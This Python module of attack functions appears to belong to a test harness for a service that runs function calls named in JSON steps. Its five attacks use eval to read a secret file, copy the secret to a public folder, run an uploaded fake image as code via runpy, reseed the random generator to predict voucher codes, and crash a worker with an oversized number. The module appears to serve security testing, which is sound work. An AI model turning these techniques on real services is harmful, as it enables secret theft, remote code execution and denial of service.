"""Attacks by steps that nobody meant to offer. All of them could be written in JSON."""

import random

from prover import Target

from .stage import Stage


def attack_evaluate(target: Target, stage: Stage) -> bool:
    """Name `eval`, and pass it a program."""
    found = target.run_step("builtins.eval", ["open('secret.txt').read()"])
    print(found)
    return bool(stage.secret == found)


def attack_copy_a_file(target: Target, stage: Stage) -> bool:
    """Name a function that copies files, and copy one to where everybody can fetch it."""
    target.run_step("shutil.copy", ["secret.txt", "public/leak.txt"])
    leak = stage.root / "public" / "leak.txt"
    print("public/leak.txt:", leak.read_text())
    return leak.read_text() == stage.secret


def attack_run_an_upload(target: Target, stage: Stage) -> bool:
    """Name a helper of the standard library that runs files, and pass it an upload."""
    marker = stage.root / "marker.txt"
    stage.write("public/photo.jpg", f"open({str(marker)!r}, 'w').write('it ran')")
    target.run_step("runpy.run_path", ["public/photo.jpg"])
    print("marker.txt:", marker.read_text())
    return marker.read_text() == "it ran"


def attack_seed_the_vouchers(target: Target, stage: Stage) -> bool:
    """Pass nothing but a number: reset the random numbers that voucher codes come from."""
    target.run_step("random.seed", [1])
    foreseen = random.Random(1).randrange(10**6)
    voucher = stage.next_voucher()
    print("foreseen:", foreseen, "issued:", voucher)
    return voucher == foreseen


def attack_number_too_large(target: Target, stage: Stage) -> bool:
    """Send a whole number that no float can hold, and crash the service's worker."""
    try:
        target.run_step("statistics.mean", [[10**400, 0.5]])
    except OverflowError as error:
        print("the worker ended with:", error)
        return True
    return False
